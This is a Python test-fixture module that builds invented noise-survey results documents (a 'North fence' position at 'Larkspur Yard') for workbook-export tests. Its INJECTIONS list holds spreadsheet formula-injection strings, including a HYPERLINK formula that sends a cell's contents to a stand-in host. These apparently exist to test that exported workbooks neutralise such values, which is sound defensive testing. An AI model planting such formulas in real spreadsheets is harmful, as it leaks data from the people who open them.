"""Hand-built results documents (the shape in the results spec) for the workbook tests.

All data are invented: position "North fence" at the invented site "Larkspur Yard". The
numbers follow a smooth daily pattern chosen by hand; they are fixture inputs, not
reference values. Tests compare the workbooks against *these* documents.
"""

from __future__ import annotations

import copy
import math
from datetime import datetime, timedelta, timezone
from typing import Any

from surveytools.settings import Settings

OFFSET = timezone(timedelta(hours=2))
START = datetime(2026, 6, 10, 12, 0, tzinfo=OFFSET)
STEP = timedelta(minutes=15)
N_INTERVALS = 2 * 24 * 4  # two days of 15-min intervals

INJECTIONS = (
    "=1+1",
    '=HYPERLINK("http://x/?"&A1,"c")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=",
)


def iso(t: datetime) -> str:
    """Return the spec's timestamp text (no milliseconds when zero)."""
    return t.isoformat()


def _period(t: datetime) -> str:
    h = t.hour
    if 7 <= h < 19:
        return "day"
    if 19 <= h < 23:
        return "evening"
    return "night"


def _laeq(t: datetime) -> float:
    # invented daily pattern: ~58 dB by day, ~44 dB at night
    hour = t.hour + t.minute / 60.0
    return round(51.0 + 7.0 * math.sin((hour - 9.0) / 24.0 * 2.0 * math.pi), 2)


def build_results_doc(
    position: str = "North fence",
    site: str = "Larkspur Yard",
    file: str = "north_fence.xlsx",
    *,
    notes: str | None = "Meter on tripod, 1.5 m above ground, 3 m from the fence.",
    label: str | None = "technician: delivery lorry idling",
    extra_message: str | None = None,
    high_level: bool = False,
) -> dict[str, Any]:
    """Return a realistic results document for one position (two days of data)."""
    intervals = []
    for i in range(N_INTERVALS):
        t0 = START + i * STEP
        laeq = _laeq(t0)
        excluded = []
        valid_s = 900.0
        if 40 <= i < 44:  # rain, 22:00-23:00 on the first day
            excluded = ["rain"]
            valid_s = 0.0
        lafmax = round(laeq + 14.5, 2)
        if high_level and i == 10:  # an interval whose equivalent level reaches 80 dB(A)
            laeq, lafmax = 84.2, 93.4
        intervals.append({
            "start": iso(t0), "end": iso(t0 + STEP),
            "LAeq": laeq if valid_s > 0 else None,
            "LAFmax": lafmax if valid_s > 0 else None,
            "LA10": round(laeq + 2.5, 2) if valid_s > 0 else None,
            "LA50": round(laeq - 1.0, 2) if valid_s > 0 else None,
            "LA90": round(laeq - 5.5, 2) if valid_s > 0 else None,
            "valid_s": valid_s, "valid_fraction": valid_s / 900.0,
            "sufficient": valid_s >= 675.0, "period": _period(t0), "excluded": excluded,
        })
    days = [
        {
            "date": "2026-06-10", "Lday": None, "Levening": 54.31, "Lnight": 45.12,
            "Lden": None, "Ldn": None, "CNEL": None, "LAeq_16h": None, "LAeq_8h": 45.12,
            "coverage": {"day": 0.4167, "evening": 0.75, "night": 1.0, "ldn_day": 0.4,
                         "ldn_night": 1.0, "cnel_day": 0.4167, "cnel_evening": 0.6667,
                         "cnel_night": 1.0, "laeq_16h": 0.5, "laeq_8h": 1.0},
            "period_hours": {"day": 12.0, "evening": 4.0, "night": 8.0},
            "sufficient": {"Lden": False, "Ldn": False, "CNEL": False, "Lday": False,
                           "Levening": True, "Lnight": True, "LAeq_16h": False,
                           "LAeq_8h": True},
            "night_events": {"threshold_db": 60.0, "count": 3, "nth_highest_LAFmax": 58.2,
                             "n": 10},
        },
        {
            "date": "2026-06-11", "Lday": 57.46, "Levening": 53.88, "Lnight": 44.71,
            "Lden": 56.83, "Ldn": 55.97, "CNEL": 56.41, "LAeq_16h": 56.92, "LAeq_8h": 44.71,
            "coverage": {"day": 1.0, "evening": 1.0, "night": 1.0, "ldn_day": 1.0,
                         "ldn_night": 1.0, "cnel_day": 1.0, "cnel_evening": 1.0,
                         "cnel_night": 1.0, "laeq_16h": 1.0, "laeq_8h": 1.0},
            "period_hours": {"day": 12.0, "evening": 4.0, "night": 8.0},
            "sufficient": {k: True for k in ("Lden", "Ldn", "CNEL", "Lday", "Levening",
                                             "Lnight", "LAeq_16h", "LAeq_8h")},
            "night_events": {"threshold_db": 60.0, "count": 1, "nth_highest_LAFmax": None,
                             "n": 10},
        },
        {
            "date": "2026-06-12", "Lday": 57.9, "Levening": None, "Lnight": None,
            "Lden": None, "Ldn": None, "CNEL": None, "LAeq_16h": None, "LAeq_8h": None,
            "coverage": {"day": 0.4167, "evening": 0.0, "night": 0.0, "ldn_day": 0.3333,
                         "ldn_night": 0.0, "cnel_day": 0.4167, "cnel_evening": 0.0,
                         "cnel_night": 0.0, "laeq_16h": 0.3125, "laeq_8h": 0.0},
            "period_hours": {"day": 12.0, "evening": 4.0, "night": 8.0},
            "sufficient": {k: False for k in ("Lden", "Ldn", "CNEL", "Lday", "Levening",
                                              "Lnight", "LAeq_16h", "LAeq_8h")},
            "night_events": {"threshold_db": 60.0, "count": 0, "nth_highest_LAFmax": None,
                             "n": 10},
        },
    ]
    findings = [
        {"severity": "error", "code": "level-not-a-number",
         "message": "'n/a' is not a level in dB - enter a number or leave the cell empty",
         "sheet": "Readings", "row": 14, "column": "C"},
        {"severity": "warning", "code": "calibration-drift-large",
         "message": "calibration drift 0.6 dB exceeds 0.5 dB - check the meter",
         "sheet": "Survey", "row": 9, "column": "B"},
        {"severity": "info", "code": "rain-excluded",
         "message": "4 intervals excluded for rain", "sheet": None, "row": None,
         "column": None},
    ]
    if extra_message is not None:
        findings.append({"severity": "info", "code": "technician-note",
                         "message": extra_message, "sheet": "Survey", "row": 12,
                         "column": "B"})
    settings = Settings().to_dict()
    doc: dict[str, Any] = {
        "schema_version": "1.0",
        "tool": {"name": "surveytools", "version": "0.1.0"},
        "input": {"file": file, "path": f"/data/drop/{file}",
                  "sha256": "3f" * 32, "size_bytes": 48213},
        "settings": settings,
        "survey": {"position": position, "site": site, "time_zone": "Europe/Berlin",
                   "clock": "local", "meter_class": 1, "calibration_before_db": 94.0,
                   "calibration_after_db": 94.6, "calibrator_level_db": 94.0,
                   "calibration_drift_db": 0.6, "microphone": "half-inch free field",
                   "height_m": 1.5, "notes": notes, "readings_sheet": "Readings",
                   "level_columns": {"LAeq": "B", "LAFmax": "C", "LAF90": "D"}},
        "status": "errors",
        "findings": findings,
        "finding_counts": {"level-not-a-number": 3, "calibration-drift-large": 1,
                           "rain-excluded": 1,
                           **({"technician-note": 1} if extra_message is not None else {})},
        "coverage": {"first": iso(START), "last": iso(START + N_INTERVALS * STEP),
                     "measured_s": 172800.0, "valid_s": 169200.0,
                     "excluded_s": {"rain": 3600.0}, "unplaced_rows": 2,
                     "logging_interval_s": 60.0},
        "overall": {"LAeq": 55.02, "LAFmax": 93.4 if high_level else 72.6, "LAFmin": 38.1,
                    "LA10": 57.9, "LA50": 51.2, "LA90": 43.7,
                    "basis": {"LA10": "samples", "LA50": "samples", "LA90": "logged"},
                    "valid_s": 169200.0},
        "intervals": intervals,
        "intervals_basis": {"LA10": "samples", "LA50": "samples", "LA90": "logged",
                            "method": "mode"},
        "days": days,
        "survey_average": {"Lday": 57.68, "Levening": 54.12, "Lnight": 44.93, "Lden": 56.87,
                           "Ldn": 56.01, "CNEL": 56.45, "LAeq_16h": 57.02, "LAeq_8h": 44.93,
                           "valid_s": {"day": 86400.0, "evening": 25200.0, "night": 57600.0}},
        "background": {
            "basis": "logged LAF90", "method": "mode",
            "reference_intervals": [
                {"start": iso(START + timedelta(hours=h)),
                 "end": iso(START + timedelta(hours=h + 1)),
                 "period": "day" if 7 <= (12 + h) % 24 < 23 else "night",
                 "LA90": float(44 + (h % 5)), "valid_s": 3600.0}
                for h in range(0, 8)
            ],
            "day": {"LA90": 46.0, "n_intervals": 20,
                    "distribution": [[44, 3], [45, 5], [46, 8], [47, 4]]},
            "night": {"LA90": 38.0, "n_intervals": 32,
                      "distribution": [[36, 4], [37, 9], [38, 12], [39, 7]]},
        },
        "assessments": [
            {"name": "Chiller plant", "position": position,
             "source_on": [["2026-06-11 08:00", "2026-06-11 12:00"]],
             "residual": [["2026-06-11 13:00", "2026-06-11 15:00"]],
             "selection": "windows", "valid_s_total": 14400.0, "valid_s_residual": 7200.0,
             "LAeq_total": 58.4, "LAeq_residual": 52.1, "level_difference": 6.3,
             "specific_level": 57.2, "specific_basis": "corrected",
             "corrections_db": {"tonal": 2.0, "impulsive": 0.0, "intermittency": 0.0,
                                "other": 0.0},
             "rating_level": 59.2, "background_period": "day", "background_LA90": 46.0,
             "background_basis": "source-free period",
             "excess_over_background": 13.2,
             "impact_indication": "indication of significant adverse impact (BS 4142)",
             "note": "residual measured while the plant was off"},
            {"name": "Yard reversing alarms", "position": position,
             "source_on": [], "residual": [], "selection": "operating column",
             "valid_s_total": 0.0, "valid_s_residual": 0.0,
             "LAeq_total": None, "LAeq_residual": None, "level_difference": None,
             "specific_level": None, "specific_basis": "not available",
             "corrections_db": {}, "rating_level": None, "background_period": "night",
             "background_LA90": 38.0, "background_basis": "source-free period",
             "excess_over_background": None,
             "impact_indication": None, "note": "no operating rows marked"},
        ],
        "criteria": [
            {"name": "Night LAFmax", "indicator": "LAFmax", "period": "night",
             "limit_db": 60.0, "applies_to": "interval", "checked": 60, "failed": 2,
             "passed": False,
             "failures": [{"when": intervals[50]["start"], "value": 61.2, "reported": 61.2,
                           "sufficient": True},
                          {"when": intervals[52]["start"], "value": 60.4, "reported": 60.4,
                           "sufficient": True}],
             "highest": {"when": intervals[50]["start"], "value": 61.2, "reported": 61.2,
                         "sufficient": True},
             "warning_db": 58.0, "schedule": None, "outside_schedule": 0,
             "episodes": [
                 {"start": intervals[50]["start"], "end": intervals[50]["end"],
                  "intervals": 1, "max_db": 61.2, "severity": "limit"},
                 {"start": intervals[52]["start"], "end": intervals[53]["end"],
                  "intervals": 2, "max_db": 60.4, "severity": "limit"},
                 {"start": intervals[60]["start"], "end": intervals[60]["end"],
                  "intervals": 1, "max_db": 58.5, "severity": "warning"}]},
            {"name": "Daytime LAeq", "indicator": "LAeq", "period": "day",
             "limit_db": 65.0, "applies_to": "interval", "checked": 84, "failed": 0,
             "passed": True, "failures": [], "warning_db": None,
             "highest": {"when": intervals[30]["start"], "value": 58.2, "reported": 58.2,
                         "sufficient": True},
             "schedule": [{"days": "Mon-Fri", "from": "07:00", "to": "19:00"}],
             "outside_schedule": 12, "episodes": []},
            {"name": "Lden limit", "indicator": "Lden", "period": "any", "limit_db": 55.0,
             "applies_to": "day", "checked": 1, "failed": 1, "passed": False,
             "failures": [{"when": "2026-06-11", "value": 56.83, "reported": 56.8,
                           "sufficient": True}], "warning_db": None,
             "highest": {"when": "2026-06-11", "value": 56.83, "reported": 56.8,
                         "sufficient": True},
             "schedule": None, "outside_schedule": 0,
             "episodes": [{"start": "2026-06-11T07:00:00+02:00",
                           "end": "2026-06-12T07:00:00+02:00", "intervals": 1,
                           "max_db": 56.8, "severity": "limit"}]},
        ],
        "exclusion_spans": [
            {"from": iso(START + 40 * STEP), "to": iso(START + 44 * STEP), "first_row": 602,
             "last_row": 661, "rows": 60, "reason": "rain", "scope": "all", "label": None},
            {"from": iso(START + 70 * STEP), "to": iso(START + 71 * STEP), "first_row": 1052,
             "last_row": 1066, "rows": 15, "reason": "marked", "scope": "background",
             "label": label},
        ],
        "unplaced": [
            {"row": 14, "reason": "level-not-a-number", "raw": "n/a"},
            {"row": 2890, "reason": "time-not-readable", "raw": "31/02/2026 25:00"},
        ],
        "spectral": None,
    }
    return doc


def with_nones(doc: dict[str, Any]) -> dict[str, Any]:
    """Return a copy where every headline and day figure is None (nothing computable)."""
    out = copy.deepcopy(doc)
    for key in list(out["survey_average"]):
        if key != "valid_s":
            out["survey_average"][key] = None
    for day in out["days"]:
        for key in ("Lday", "Levening", "Lnight", "Lden", "Ldn", "CNEL", "LAeq_16h",
                    "LAeq_8h"):
            day[key] = None
    for key in ("LAeq", "LAFmax", "LAFmin", "LA10", "LA50", "LA90"):
        out["overall"][key] = None
    out["background"]["day"] = None
    out["background"]["night"]["LA90"] = None
    for iv in out["intervals"][:5]:
        iv["LAeq"] = float("nan")  # a NaN that slipped through must still not be written
    return out


def unreadable_doc(file: str = "broken.xlsx") -> dict[str, Any]:
    """Return the document of a file that could not be read."""
    return {
        "schema_version": "1.0",
        "tool": {"name": "surveytools", "version": "0.1.0"},
        "input": {"file": file, "path": f"/data/drop/{file}", "sha256": "0a" * 32,
                  "size_bytes": 0},
        "settings": Settings().to_dict(),
        "survey": {},
        "status": "unreadable",
        "findings": [{"severity": "error", "code": "file-not-a-zip",
                      "message": "the file is not a zip archive - re-export it from the meter",
                      "sheet": None, "row": None, "column": None}],
        "finding_counts": {"file-not-a-zip": 1},
        "coverage": None, "overall": None, "intervals": [], "intervals_basis": None,
        "days": [], "survey_average": None, "background": None, "assessments": [],
        "criteria": [], "exclusion_spans": [], "unplaced": [], "spectral": None,
    }
